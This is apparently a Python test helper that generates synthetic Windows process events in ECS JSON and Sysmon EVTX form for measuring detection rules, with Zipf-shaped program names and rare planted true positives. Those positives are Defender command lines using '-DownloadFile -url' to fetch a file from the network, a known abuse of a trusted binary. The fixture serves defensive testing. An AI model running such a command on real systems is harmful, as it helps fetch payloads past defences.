"""Telemetry for measurements: Zipf-shaped names, unique command lines, a few true positives."""

# ruff: noqa: E501 (an event reads better than it wraps)

from __future__ import annotations

import random
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import orjson
from tests.evtx_writer import write_evtx
from tests.scenario import DEFENDER, ORDINARY, Machine

NAMES = 400  # distinct programs
HOSTS = 60
POSITIVES = 10_000  # one true positive in this many process events


def process_events(count: int, seed: int = 1) -> Iterator[dict[str, Any]]:
    """Yield ECS process events as Elastic Defend and Winlogbeat ship them, about 900 bytes of JSON each."""
    rng = random.Random(seed)
    programs = [f"C:\\Program Files\\Vendor{i % 37}\\app{i}\\tool{i}.exe" for i in range(NAMES)]
    programs[:40] = [image for image, *_ in ORDINARY] * 3 + programs[36:40]
    weights = [1 / (rank + 1) for rank in range(NAMES)]
    for number in range(count):
        image, parent = rng.choices(programs, weights, k=2)
        host, user = rng.randrange(HOSTS), rng.randrange(200)
        words = [
            f"--{rng.choice(('id', 'path', 'mode', 'session', 'out'))}={rng.getrandbits(40):x}"
            for _ in range(rng.randint(0, 5))
        ]
        arguments = [image, *words]
        if number % POSITIVES == POSITIVES - 1:
            image = DEFENDER
            arguments = [image, "-DownloadFile", "-url", "https://cdn.example.com/a", "-path", f"C:\\{number}"]
        name = image.rpartition("\\")[2]
        yield {
            "@timestamp": f"2026-10-06T{number // 3600 % 24:02}:{number // 60 % 60:02}:{number % 60:02}.{number % 1000:03}Z",
            "data_stream": {"type": "logs", "dataset": "endpoint.events.process", "namespace": "default"},
            "event": {"kind": "event", "category": ["process"], "type": [rng.choice(("start", "start", "end"))], "code": "1", "id": f"{rng.getrandbits(64):x}"},
            "host": {"id": f"host-{host:04}", "name": f"WS-{host:04}", "os": {"type": "windows"}},
            "user": {"id": f"S-1-5-21-{user}", "name": f"user{user}", "domain": "CORP"},
            "process": {
                "entity_id": f"{{{rng.getrandbits(96):x}}}",
                "pid": rng.randrange(1000, 30000),
                "name": name,
                "executable": image,
                "command_line": " ".join(f'"{a}"' if " " in a else a for a in arguments),
                "args": arguments,
                "args_count": len(arguments),
                "hash": {"sha256": f"{rng.getrandbits(256):064x}"},
                "pe": {"original_file_name": name},
                "parent": {"name": parent.rpartition("\\")[2], "executable": parent, "pid": rng.randrange(500, 9000)},
            },
        }  # fmt: skip


def write_ndjson(path: Path, count: int) -> Path:
    """Write process events as NDJSON, unless the file is there."""
    if not path.exists():
        path.parent.mkdir(parents=True, exist_ok=True)
        with path.open("wb") as file:
            for event in process_events(count):
                file.write(orjson.dumps(event) + b"\n")
    return path


def write_logs(path: Path, count: int) -> Path:
    """Write a Sysmon log of an ordinary mix (30 % process creations) with a few true positives as EVTX."""
    if not path.exists():
        path.parent.mkdir(parents=True, exist_ok=True)
        machine = Machine("WS-0001", "CORP\\user", 5)
        records = []
        for number in range(count):
            if number % POSITIVES == POSITIVES - 1:
                records.append(
                    machine.process(
                        DEFENDER, "-DownloadFile -url https://x/ -path C:\\x", "C:\\a.exe", "MpCmdRun.exe"
                    )
                )
            else:
                records.append(machine.ordinary())
        path.write_bytes(write_evtx(records))
    return path
